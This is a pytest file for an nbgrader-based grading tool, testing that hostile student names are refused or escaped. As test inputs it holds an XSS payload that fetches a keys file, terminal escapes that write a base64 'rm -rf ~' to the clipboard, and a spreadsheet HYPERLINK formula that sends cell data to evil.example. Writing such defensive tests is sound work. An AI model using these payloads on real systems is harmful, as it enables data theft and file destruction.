"""Names are data: refused with markup or control characters where they enter, escaped in
formgrader, neutralized in CSV cells, made visible in the terminal.

The browser's side (formgrader's pages) is test_names_browser.py; the exports' files are in
test_export.py.
"""

from __future__ import annotations

import html
import os
import sqlite3
import warnings
from contextlib import closing
from pathlib import Path

import pytest
from gradacc_grader.export import spreadsheet_text
from gradacc_grader.grading import score_table
from gradacc_grader.names import EscapeStudentFields, bad_characters, check_student
from gradacc_grader.results import Outcome
from gradacc_grader.roster import read_roster
from gradacc_grader.terminal_text import visible

MARKUP = "<img src=x onerror=\"fetch('/api/contents/keys/gradacc_faq.json')\">"
CSV_MARKUP = '"' + MARKUP.replace('"', '""') + '"'  # one CSV cell
ESCAPES = "\x1b]0;owned\x07\x1b[2J\x1b]52;c;cm0gLXJmIH4=\x07"  # title, clear screen, clipboard


def test_markup_and_control_characters_are_found_and_names_of_the_world_pass():
    for name in ("Adéwálé", "O'Brien-Ng", "Zoë van der Berg", "李小龙", "Øyvind", "jo.ng@uni.edu"):
        assert bad_characters(name) == [], name
    assert bad_characters(MARKUP) == ["<", '"', ">"]
    assert bad_characters("Tom & Jerry") == ["&"]
    assert bad_characters(ESCAPES) == ["\x1b", "\x07"]
    assert bad_characters("Ada\u202eecalevol") == ["\u202e"]  # reads backwards
    assert bad_characters("Ada\tLovelace\r\n") == ["\t", "\r", "\n"]


def test_the_refusal_names_the_student_the_field_and_the_character():
    (line,) = check_student("mal", {"first_name": "Mal", "last_name": MARKUP, "email": None})
    assert line.startswith("student 'mal': last_name holds '<' (U+003C), '\"' (U+0022)")
    (line,) = check_student("bob", {"first_name": f"Bob{ESCAPES}"})
    assert "first_name holds '\\x1b' (U+001B), '\\x07' (U+0007)" in line
    assert "\x1b" not in line and "\x07" not in line  # the message itself prints safely
    assert check_student("ada", {"first_name": "Ada", "last_name": "Lovelace"}) == []


@pytest.fixture
def gradebook_path(tmp_path) -> Path:
    from gradacc_grader.build import new_gradebook

    path = tmp_path / "gradebook.db"
    new_gradebook(path)
    return path


def test_the_gradebook_refuses_a_markup_name_from_every_nbgrader_way_in(gradebook_path):
    from gradacc_grader.names import guard_gradebook
    from nbgrader.api import Gradebook

    guard_gradebook()  # what the course's nbgrader_config.py does in every nbgrader command
    with warnings.catch_warnings(), Gradebook(f"sqlite:///{gradebook_path}") as gradebook:
        warnings.simplefilter("ignore")  # SQLAlchemy's SAWarnings about nbgrader's models
        gradebook.add_student("ada", first_name="Ada", last_name="Lovelace")
        with pytest.raises(ValueError, match=r"student 'mal': first_name holds '<'"):
            gradebook.add_student("mal", first_name=MARKUP)
        with pytest.raises(ValueError, match=r"student 'ada': last_name holds '\\x1b'"):
            gradebook.update_or_create_student("ada", last_name=f"Lovelace{ESCAPES}")
        with pytest.raises(ValueError, match=r"id holds '<'"):
            gradebook.update_or_create_student("<b>eve</b>", first_name="Eve")
    with closing(sqlite3.connect(gradebook_path)) as db:
        rows = db.execute("SELECT id, first_name, last_name FROM student").fetchall()
    assert rows == [("ada", "Ada", "Lovelace")]  # nothing else went in


def test_names_already_in_a_gradebook_are_found(gradebook_path):
    from gradacc_grader.names import unsafe_names

    with closing(sqlite3.connect(gradebook_path)) as db, db:  # as an older course holds them
        insert = "INSERT INTO student (id, first_name, last_name) VALUES (?, ?, ?)"
        db.execute(insert, ("ada", "Ada", "Lovelace"))
        db.execute(insert, ("mal", MARKUP, "Lory"))
    (line,) = unsafe_names(gradebook_path)
    assert line.startswith("student 'mal': first_name holds '<' (U+003C)")


def test_formgraders_page_resources_are_escaped_and_read_back_as_typed():
    resources = {"first_name": MARKUP, "last_name": "O'Brien", "student": "<s>", "index": 0}
    _, escaped = EscapeStudentFields().preprocess(None, dict(resources))
    assert "<" not in escaped["first_name"] and '"' not in escaped["first_name"]
    assert html.unescape(escaped["first_name"]) == MARKUP  # the page shows what was typed
    assert html.unescape(escaped["last_name"]) == "O'Brien"
    assert escaped["student"] == "&lt;s&gt;" and escaped["index"] == 0


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_a_spreadsheet_would_run_gets_a_leading_quote(start):
    text = f'{start}HYPERLINK("http://evil.example/?"&A1,"click")'
    assert spreadsheet_text(text) == "'" + text
    assert spreadsheet_text(f"Ada {text}") == f"Ada {text}"  # only the first character counts
    assert spreadsheet_text(4.25) == 4.25


def _roster(tmp_path: Path, rows: list[str]) -> Path:
    path = tmp_path / "students.csv"
    path.write_text("id,first_name,last_name,email\n" + "\n".join(rows) + "\n", encoding="utf-8")
    return path


def test_a_roster_with_markup_is_refused_whole_naming_each_bad_row(tmp_path):
    path = _roster(
        tmp_path,
        [
            "ada,Ada,Lovelace,ada@uni.edu",
            f"mal,Mal,{CSV_MARKUP},",
            "bob,Bob\x1b]0;owned\x07,Kahn,",
            "<svg>,Eve,Ng,",
        ],
    )
    with pytest.raises(ValueError) as refused:
        read_roster(path)
    lines = str(refused.value).splitlines()
    assert lines[0] == "roster refused, nothing imported:"
    assert lines[1].startswith(f"{path} line 3: student 'mal': last_name holds '<' (U+003C)")
    assert lines[2].startswith(f"{path} line 4: student 'bob': first_name holds '\\x1b'")
    assert lines[3].startswith(f"{path} line 5: student '<svg>': the id must be a plain name")
    assert "\x1b" not in str(refused.value)
    good = _roster(tmp_path, ["ada,Ada,Lovelace,ada@uni.edu", "bob,Bob,,"])
    assert read_roster(good) == [
        {"id": "ada", "first_name": "Ada", "last_name": "Lovelace", "email": "ada@uni.edu"},
        {"id": "bob", "first_name": "Bob", "last_name": None, "email": None},
    ]


def test_a_students_name_reaches_the_terminal_with_its_escapes_shown():
    student = f"bob{ESCAPES}"
    table = score_table([Outcome(student, "refused: the student id is not a plain name")])
    assert "\x1b" not in table and "\x07" not in table
    assert "bob\\x1b]0;owned\\x07\\x1b[2J" in table  # shown, so the instructor sees it
    assert visible("C:\\x1b") == "C:\\\\x1b"  # a typed backslash reads apart from an ESC


# --- the commands, as the instructor runs them ---------------------------------------------


def _students(course: Path) -> list[tuple]:
    with closing(sqlite3.connect(course / "gradebook.db")) as db:
        return db.execute("SELECT id, first_name, last_name FROM student ORDER BY id").fetchall()


@pytest.mark.slow
def test_gradacc_build_imports_a_checked_roster_and_refuses_a_hostile_one(course_copy, cli):
    before = _students(course_copy)
    bad = _roster(course_copy.parent, ["ada,Ada,Lovelace,", f"mal,{CSV_MARKUP},X,"])
    done = cli(["gradacc-build", "--course", str(course_copy), "--roster", str(bad)])
    assert done.returncode == 1
    assert "line 3: student 'mal': first_name holds '<' (U+003C)" in done.stderr, done.stderr
    assert _students(course_copy) == before  # not even ada: the whole file is refused
    good = _roster(course_copy.parent, ["ada,Ada,Lovelace,", "bob,Bob,Kahn,"])
    done = cli(["gradacc-build", "--course", str(course_copy), "--roster", str(good)])
    assert done.returncode == 0, done.stderr
    assert "roster: 2 students" in done.stdout
    assert {("ada", "Ada", "Lovelace"), ("bob", "Bob", "Kahn")} <= set(_students(course_copy))


@pytest.mark.slow
def test_nbgraders_own_student_commands_refuse_a_markup_name(course_copy, cli):
    before = _students(course_copy)
    add = ["nbgrader", "db", "student", "add", "mal", "--first-name", MARKUP, "--last-name", "X"]
    done = cli(add, cwd=course_copy)
    assert done.returncode != 0
    assert "ValueError: student 'mal': first_name holds '<' (U+003C)" in done.stderr
    roster = _roster(course_copy.parent, [f"eve,Eve{ESCAPES},Ng,"])
    done = cli(["nbgrader", "db", "student", "import", str(roster)], cwd=course_copy)
    assert done.returncode != 0
    assert "student 'eve': first_name holds '\\x1b' (U+001B)" in done.stderr
    assert _students(course_copy) == before


@pytest.mark.slow
def test_collect_shows_the_escapes_of_a_refused_exchange_folder(course_copy, cli, tmp_path):
    inbound = tmp_path / "exchange" / "gradacc" / "inbound"
    folder = inbound / f"bob{ESCAPES}+gradacc_faq+2026-11-30 10:00:00.000000 UTC+1a2b"
    folder.mkdir(parents=True)
    (folder / "gradacc_faq.ipynb").write_text('{"cells": []}')
    collect = ["nbgrader", "collect", "gradacc_faq", f"--Exchange.root={tmp_path / 'exchange'}"]
    done = cli(collect, cwd=course_copy)
    out = done.stdout + done.stderr
    assert "\x1b" not in out and "\x07" not in out, repr(out)
    assert "refused bob\\x1b]0;owned\\x07\\x1b[2J" in out, out
    assert "not a plain name" in out
    assert not [p for p in os.listdir(course_copy / "submitted") if p.startswith("bob")]
